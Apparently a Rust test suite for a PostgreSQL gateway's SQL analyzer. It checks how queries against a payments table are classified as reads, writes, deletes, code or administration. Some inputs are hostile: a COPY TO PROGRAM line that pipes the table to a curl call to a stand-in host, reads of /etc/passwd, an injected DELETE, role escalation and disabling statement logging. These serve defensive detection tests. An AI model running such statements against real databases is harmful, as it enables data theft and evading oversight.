use super::*;

/// (action, table or function as written, command) of every access.
fn accesses(sql: &str) -> Vec<(Action, String, &'static str)> {
    let analysis = analyze(sql).unwrap_or_else(|e| panic!("{sql}: {e}"));
    analysis
        .statements
        .iter()
        .flat_map(|s| s.accesses.iter())
        .map(|a| {
            let target = match &a.target {
                Target::Table(t) | Target::Function(t) => t.to_string(),
                Target::Connection => "-".into(),
                Target::Prepared(name) => format!("prepared:{name}"),
            };
            (a.action, target, a.command)
        })
        .collect()
}

fn tables(sql: &str, action: Action) -> Vec<String> {
    accesses(sql)
        .into_iter()
        .filter(|(a, t, _)| *a == action && t != "-")
        .map(|(_, t, _)| t)
        .collect()
}

fn first(sql: &str) -> Access {
    analyze(sql).unwrap().statements[0].accesses[0].clone()
}

#[test]
fn reads_writes_and_deletes_with_their_targets() {
    assert_eq!(tables("SELECT * FROM payments", Action::Read), ["payments"]);
    assert_eq!(
        tables(
            "select pan from public.payments p join customers c on c.id = p.customer_id",
            Action::Read
        ),
        ["public.payments", "customers"]
    );
    assert_eq!(
        tables("INSERT INTO t (a) SELECT b FROM s", Action::Write),
        ["t"]
    );
    assert_eq!(
        tables("INSERT INTO t (a) SELECT b FROM s", Action::Read),
        ["s"]
    );
    assert_eq!(
        tables("UPDATE t SET a = 1 FROM s WHERE t.id = s.id", Action::Write),
        ["t"]
    );
    assert_eq!(
        tables("DELETE FROM t USING s WHERE t.id = s.id", Action::Delete),
        ["t"]
    );
}

#[test]
fn where_clauses_that_restrict_nothing_do_not_count() {
    assert!(!first("DELETE FROM payments").has_where);
    assert!(!first("DELETE FROM payments WHERE 1 = 1").has_where);
    assert!(!first("UPDATE payments SET cvv = NULL WHERE true").has_where);
    assert!(first("DELETE FROM payments WHERE id = 3").has_where);
}

#[test]
fn limits_are_recognised() {
    assert!(first("SELECT * FROM payments LIMIT 5").has_limit);
    assert!(first("SELECT * FROM payments FETCH FIRST 5 ROWS ONLY").has_limit);
    assert!(!first("SELECT * FROM payments LIMIT ALL").has_limit);
    assert!(!first("SELECT * FROM payments").has_limit);
    assert!(first("SELECT count(*) FROM payments").has_limit, "one row");
    assert!(
        !first("SELECT string_agg(pan, ',') FROM payments").has_limit,
        "a list in one row"
    );
}

#[test]
fn dml_inside_ctes_and_returning_are_seen() {
    let found = accesses("WITH gone AS (DELETE FROM payments RETURNING *) SELECT * FROM gone");
    assert!(
        found.contains(&(Action::Delete, "payments".into(), "DELETE")),
        "{found:?}"
    );
    assert!(
        found.contains(&(Action::Read, "payments".into(), "DELETE")),
        "{found:?}"
    );
    assert!(
        !found.iter().any(|(_, t, _)| t == "gone"),
        "a CTE is not a table: {found:?}"
    );
}

#[test]
fn cte_names_hide_tables_only_where_postgres_says_so() {
    // The CTE's own body reads the real table (non-recursive WITH).
    assert_eq!(
        tables(
            "WITH payments AS (SELECT * FROM payments) SELECT * FROM payments",
            Action::Read
        ),
        ["payments"]
    );
    // A DML target is always the table, whatever the CTEs are called.
    assert_eq!(
        tables(
            "WITH payments AS (SELECT 1) DELETE FROM payments",
            Action::Delete
        ),
        ["payments"]
    );
    // A CTE in a sibling subquery does not hide the table.
    assert_eq!(
        tables(
            "SELECT * FROM (WITH payments AS (SELECT 1) SELECT * FROM payments) a, payments",
            Action::Read
        ),
        ["payments"]
    );
}

#[test]
fn explain_analyze_executes_plain_explain_does_not() {
    assert_eq!(
        tables("EXPLAIN ANALYZE DELETE FROM payments", Action::Delete),
        ["payments"]
    );
    assert_eq!(
        tables(
            "EXPLAIN (ANALYZE, COSTS off) DELETE FROM payments",
            Action::Delete
        ),
        ["payments"]
    );
    assert!(tables("EXPLAIN DELETE FROM payments", Action::Delete).is_empty());
    assert!(
        tables(
            "EXPLAIN (ANALYZE false) DELETE FROM payments",
            Action::Delete
        )
        .is_empty()
    );
    assert_eq!(
        tables("EXPLAIN DELETE FROM payments", Action::Read),
        ["payments"]
    );
}

#[test]
fn prepare_and_rule_bodies_are_walked() {
    assert_eq!(
        tables("PREPARE p AS DELETE FROM payments", Action::Delete),
        ["payments"]
    );
    let analysis = analyze("PREPARE p AS DELETE FROM payments").unwrap();
    assert_eq!(
        analysis.statements[0].effects,
        [Effect::Prepare("p".into())]
    );
    let rule = "CREATE RULE r AS ON INSERT TO audit DO ALSO DELETE FROM payments";
    assert_eq!(tables(rule, Action::Delete), ["payments"]);
    assert_eq!(tables(rule, Action::Code), ["audit"]);
    assert_eq!(accesses("EXECUTE p(1)")[0].1, "prepared:p");
}

#[test]
fn copy_directions_and_server_side_copies() {
    assert_eq!(
        tables("COPY payments TO STDOUT", Action::CopyOut),
        ["payments"]
    );
    assert_eq!(
        tables("COPY (SELECT pan FROM payments) TO STDOUT", Action::CopyOut),
        ["payments"]
    );
    assert_eq!(
        tables("COPY payments FROM STDIN", Action::CopyIn),
        ["payments"]
    );
    let program = accesses("COPY payments TO PROGRAM 'curl -d @- evil'");
    assert!(
        program.contains(&(Action::Admin, "-".into(), "COPY TO PROGRAM")),
        "{program:?}"
    );
    assert!(accesses("COPY payments FROM '/etc/passwd'").contains(&(
        Action::Admin,
        "-".into(),
        "COPY FROM FILE"
    )));
}

#[test]
fn ddl_commands_name_their_tables() {
    assert_eq!(
        accesses("DROP TABLE payments, public.orders"),
        [
            (Action::Ddl, "payments".into(), "DROP TABLE"),
            (Action::Ddl, "public.orders".into(), "DROP TABLE")
        ]
    );
    assert_eq!(
        accesses("TRUNCATE ONLY payments")[0],
        (Action::Ddl, "payments".into(), "TRUNCATE TABLE")
    );
    assert!(first("TRUNCATE ONLY payments").only);
    assert_eq!(
        accesses("ALTER TABLE payments DROP COLUMN cvv")[0],
        (Action::Ddl, "payments".into(), "ALTER TABLE")
    );
    let into = accesses("SELECT * INTO stash FROM payments");
    assert!(
        into.contains(&(Action::Ddl, "stash".into(), "SELECT INTO")),
        "{into:?}"
    );
    assert!(
        into.contains(&(Action::Read, "payments".into(), "SELECT")),
        "{into:?}"
    );
}

#[test]
fn opaque_code_and_privileged_functions() {
    assert_eq!(
        accesses("DO $$ BEGIN DELETE FROM payments; END $$")[0].0,
        Action::Code
    );
    assert_eq!(
        accesses("CALL purge(1)")[0],
        (Action::Code, "purge".into(), "CALL")
    );
    assert!(accesses("SELECT pg_read_file('/etc/passwd')").contains(&(
        Action::Admin,
        "pg_read_file".into(),
        "SELECT"
    )));
    assert!(
        accesses("SELECT query_to_xml('select * from payments', true, true, '')")
            .iter()
            .any(|a| a.0 == Action::Admin)
    );
    assert_eq!(accesses("SET ROLE postgres")[0].0, Action::Admin);
    assert_eq!(
        accesses("GRANT SELECT ON payments TO public")[0].0,
        Action::Admin
    );
    assert_eq!(
        accesses("ALTER SYSTEM SET log_statement = 'none'")[0].0,
        Action::Admin
    );
}

#[test]
fn search_path_changes_are_followed_only_in_forms_the_gateway_can_follow() {
    let info = |sql: &str| analyze(sql).unwrap().statements[0].clone();
    assert_eq!(
        info("SET search_path TO hr, \"$user\", public").effects,
        [Effect::SearchPath(PathChange::Set(vec![
            "hr".into(),
            "$user".into(),
            "public".into()
        ]))]
    );
    assert_eq!(
        info("SET search_path = 'hr, \"X\"', 'HR'").effects,
        [Effect::SearchPath(PathChange::Set(vec![
            "hr, \"X\"".into(),
            "HR".into()
        ]))],
        "each argument is one schema, as PostgreSQL quotes it"
    );
    assert_eq!(
        info("SET SCHEMA 'hr'").effects,
        [Effect::SearchPath(PathChange::Set(vec!["hr".into()]))]
    );
    assert_eq!(
        info("RESET search_path").effects,
        [Effect::SearchPath(PathChange::Reset)]
    );
    assert_eq!(
        info("RESET ALL").effects,
        [Effect::SearchPath(PathChange::Reset)]
    );
    assert_eq!(info("DISCARD ALL").effects, [Effect::DiscardAll]);
    assert!(analyze("SET search_path = hr").unwrap().literal_sensitive);
    // What the gateway cannot follow exactly is refused before it is sent.
    for sql in [
        "SET LOCAL search_path = information_schema",
        "SELECT set_config('search_path', 'information_schema', false)",
        "SELECT set_config('search_path', 'information_schema', true)",
        "SELECT set_config(name, 'x', false) FROM settings",
        "SELECT pg_catalog.set_config('search' || '_path', 'x', false)",
        "SET search_path FROM CURRENT",
    ] {
        assert!(info(sql).unsupported.is_some(), "{sql}");
    }
}

#[test]
fn settings_that_decide_how_sql_reads_keep_readable_values() {
    let info = |sql: &str| analyze(sql).unwrap().statements[0].clone();
    for sql in [
        "SET standard_conforming_strings = off",
        "SET standard_conforming_strings TO false",
        "SET client_encoding = 'SJIS'",
        "SET NAMES 'BIG5'",
        "SELECT set_config('standard_conforming_strings', 'off', false)",
        "SELECT set_config('client_encoding', 'GBK', false)",
    ] {
        assert!(info(sql).unsupported.is_some(), "{sql}");
    }
    for sql in [
        "SET standard_conforming_strings = on",
        "SET client_encoding = 'UTF8'",
        "SET NAMES 'latin1'",
        "RESET client_encoding",
        "SET application_name = 'x'",
        "SELECT set_config('statement_timeout', '5s', false)",
        "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
    ] {
        let info = info(sql);
        assert!(info.unsupported.is_none(), "{sql}");
        assert!(
            info.accesses.iter().all(|a| a.action == Action::Session),
            "{sql}: {:?}",
            info.accesses
        );
    }
    // Settings off the allow-list, and who the session is, are administration.
    for sql in [
        "SET session_replication_role = replica",
        "SELECT set_config('session_replication_role', 'replica', false)",
        "SET ROLE postgres",
        "SET SESSION AUTHORIZATION postgres",
        "SELECT set_config('role', 'postgres', false)",
    ] {
        assert!(
            info(sql).accesses.iter().any(|a| a.action == Action::Admin),
            "{sql}"
        );
    }
}

#[test]
fn locks_and_prepared_transactions_are_not_session_control() {
    assert_eq!(
        accesses("LOCK TABLE payments IN ACCESS EXCLUSIVE MODE"),
        [(Action::Write, "payments".into(), "LOCK TABLE")]
    );
    for sql in [
        "PREPARE TRANSACTION 'x'",
        "COMMIT PREPARED 'x'",
        "ROLLBACK PREPARED 'x'",
    ] {
        assert_eq!(accesses(sql)[0].0, Action::Admin, "{sql}");
    }
    assert_eq!(accesses("COMMIT")[0].0, Action::Session);
}

#[test]
fn code_the_gateway_cannot_read_is_the_code_action() {
    for sql in [
        "DO $$ BEGIN DELETE FROM orders; END $$",
        "CALL purge_orders()",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        "CREATE PROCEDURE p() LANGUAGE sql AS 'DELETE FROM orders'",
        "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = x AS 'SELECT 1'",
        "ALTER FUNCTION f() SECURITY DEFINER",
        "CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()",
        "CREATE RULE r AS ON SELECT TO orders DO INSTEAD SELECT * FROM payments",
        "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()",
    ] {
        let analysis = analyze(sql).unwrap();
        assert!(
            analysis.statements[0]
                .accesses
                .iter()
                .any(|a| a.action == Action::Code),
            "{sql}: {:?}",
            analysis.statements[0].accesses
        );
    }
}

#[test]
fn whole_row_references_of_subqueries_and_ctes_carry_every_column() {
    for sql in [
        "SELECT t FROM (SELECT * FROM payments) t",
        "WITH c AS (SELECT pan FROM payments) SELECT c FROM c",
        "SELECT j FROM (payments JOIN orders USING (id)) j",
    ] {
        let analysis = analyze(sql).unwrap();
        let payments = analysis.statements[0]
            .accesses
            .iter()
            .find(|a| {
                a.target
                    == Target::Table(ObjectName {
                        schema: None,
                        name: "payments".into(),
                    })
            })
            .unwrap_or_else(|| panic!("{sql}"));
        assert!(payments.derived.contains(&ColumnRef::All), "{sql}");
    }
    // A subquery's bare column keeps its identity (PostgreSQL reports its table).
    let plain = analyze("SELECT t.pan FROM (SELECT pan FROM payments) t").unwrap();
    assert!(plain.statements[0].accesses[0].derived.is_empty());
}

#[test]
fn operators_are_listed_for_the_catalog_check() {
    let analysis = analyze("SELECT a === b, c + 1 FROM t WHERE x OPERATOR(public.~~~) y").unwrap();
    let names: Vec<String> = analysis.statements[0]
        .operators
        .iter()
        .map(ToString::to_string)
        .collect();
    assert_eq!(names, ["===", "+", "public.~~~"]);
}

#[test]
fn statements_that_read_differently_under_other_settings_are_marked() {
    assert!(!setting_sensitive("SELECT 'a', 'b' FROM t"));
    assert!(setting_sensitive(
        "SELECT 'a\\', ' ; DELETE FROM orders; -- '"
    ));
    assert!(setting_sensitive("SELECT 'é'"));
    assert!(setting_sensitive("SELECT E'\\x41'"));
}

#[test]
fn only_tablesample_cursors_and_subqueries() {
    assert!(first("SELECT * FROM ONLY payments").only);
    assert_eq!(
        tables(
            "SELECT * FROM payments TABLESAMPLE SYSTEM (50)",
            Action::Read
        ),
        ["payments"]
    );
    assert_eq!(
        tables("DECLARE c CURSOR FOR SELECT * FROM payments", Action::Read),
        ["payments"]
    );
    assert_eq!(
        tables(
            "SELECT 1 WHERE EXISTS (SELECT 1 FROM payments WHERE pan LIKE '4%')",
            Action::Read
        ),
        ["payments"]
    );
}

#[test]
fn columns_are_attributed_to_their_tables() {
    let analysis =
        analyze("SELECT p.pan, c.name FROM payments p JOIN customers c ON c.id = p.customer_id")
            .unwrap();
    let accesses = &analysis.statements[0].accesses;
    assert!(
        accesses[0]
            .columns
            .contains(&ColumnRef::Named("pan".into()))
    );
    assert!(
        !accesses[0]
            .columns
            .contains(&ColumnRef::Named("name".into()))
    );
    assert!(
        accesses[1]
            .columns
            .contains(&ColumnRef::Named("name".into()))
    );
    assert_eq!(first("SELECT * FROM payments").columns, [ColumnRef::All]);
}

#[test]
fn several_statements_and_syntax_errors() {
    let analysis = analyze("SELECT 1; DROP TABLE payments").unwrap();
    assert_eq!(analysis.statements.len(), 2);
    assert_eq!(analysis.statements[1].command, "DROP TABLE");
    assert!(matches!(analyze("SELEC 1"), Err(SqlError::Syntax(_))));
}

#[test]
fn unknown_statement_kinds_are_admin() {
    assert_eq!(accesses("CREATE EXTENSION dblink")[0].0, Action::Admin);
    assert_eq!(accesses("LOAD 'auto_explain'")[0].0, Action::Admin);
}

#[test]
fn shapes_ignore_literals_and_comments_but_not_names() {
    let a = shape("SELECT abalance FROM pgbench_accounts WHERE aid = 42;").unwrap();
    let b = shape("select abalance from pgbench_accounts /* hi */ where aid = 123456;").unwrap();
    assert_ne!(a, b, "keywords keep their case");
    assert_eq!(
        a,
        shape("SELECT abalance FROM pgbench_accounts WHERE aid = 7;").unwrap()
    );
    assert_ne!(
        shape("SELECT * FROM \"Payments\"").unwrap(),
        shape("SELECT * FROM payments").unwrap()
    );
    let cache = ShapeCache::new(8);
    let first = cache.analyze("SELECT 1 FROM t WHERE a = 1").unwrap();
    let second = cache.analyze("SELECT 1 FROM t WHERE a = 2").unwrap();
    assert!(Arc::ptr_eq(&first, &second));
}

#[test]
fn a_cached_analysis_is_reused_only_where_literals_cannot_change_it() {
    let cache = ShapeCache::new(64);
    let same = |a: &str, b: &str| {
        let first = cache.analyze(a).unwrap();
        let second = cache.analyze(b).unwrap();
        Arc::ptr_eq(&first, &second)
    };
    // Values compared, inserted, assigned, selected, or a row count.
    assert!(same(
        "SELECT abalance FROM pgbench_accounts WHERE aid = 42",
        "SELECT abalance FROM pgbench_accounts WHERE aid = 815"
    ));
    assert!(same(
        "SELECT * FROM t WHERE a IN (1, 2) AND b BETWEEN 3 AND 4 AND c LIKE 'x%' LIMIT 10",
        "SELECT * FROM t WHERE a IN (5, 6) AND b BETWEEN 7 AND 8 AND c LIKE 'y%' LIMIT 20"
    ));
    assert!(same(
        "INSERT INTO t (a, b) VALUES (1, 'x')",
        "INSERT INTO t (a, b) VALUES (2, 'y')"
    ));
    assert!(same(
        "UPDATE t SET a = 1 WHERE id = 2",
        "UPDATE t SET a = 3 WHERE id = 4"
    ));
    // Options, casts to reg* types, escapes and arguments are part of the key.
    assert!(!same(
        "EXPLAIN (ANALYZE 0) DELETE FROM orders",
        "EXPLAIN (ANALYZE 1) DELETE FROM orders"
    ));
    let explained = cache
        .analyze("EXPLAIN (ANALYZE 1) DELETE FROM orders")
        .unwrap();
    assert!(
        explained.statements[0]
            .accesses
            .iter()
            .any(|a| a.action == Action::Delete),
        "EXPLAIN ANALYZE runs the DELETE"
    );
    assert!(!same(
        "DROP TABLE U&\"!0070ayments\" UESCAPE '#'",
        "DROP TABLE U&\"!0070ayments\" UESCAPE '!'"
    ));
    let dropped = cache
        .analyze("DROP TABLE U&\"!0070ayments\" UESCAPE '!'")
        .unwrap();
    assert_eq!(
        dropped.statements[0].accesses[0].target,
        Target::Table(ObjectName {
            schema: None,
            name: "payments".into()
        })
    );
    assert!(!same(
        "SELECT 1 FROM pg_class WHERE oid = 'payments'::regclass",
        "SELECT 1 FROM pg_class WHERE oid = 'orders'::regclass"
    ));
    assert!(!same("SELECT lower('a')", "SELECT lower('b')"));
    assert!(!same(
        "COPY payments TO STDOUT (FORMAT 'csv')",
        "COPY payments TO STDOUT (FORMAT 'binary')"
    ));
}

#[test]
fn hostile_nesting_is_refused_not_a_crash() {
    // Parentheses alone vanish in the parser; nested subqueries do not.
    let sql = format!("SELECT {}1{}", "(SELECT ".repeat(3000), ")".repeat(3000));
    let refused = analyze(&sql).unwrap_err();
    assert!(
        refused.to_string().contains("nested too deeply")
            || matches!(refused, SqlError::TooDeep(_)),
        "{refused}"
    );
    let sql = format!("SELECT {}1{}", "(SELECT ".repeat(10), ")".repeat(10));
    analyze(&sql).unwrap();
    // On a runtime worker's stack (2 MiB), too.
    let small = std::thread::Builder::new()
        .stack_size(2 * 1024 * 1024)
        .spawn(move || analyze(&sql).is_ok())
        .unwrap();
    assert!(small.join().unwrap());
}
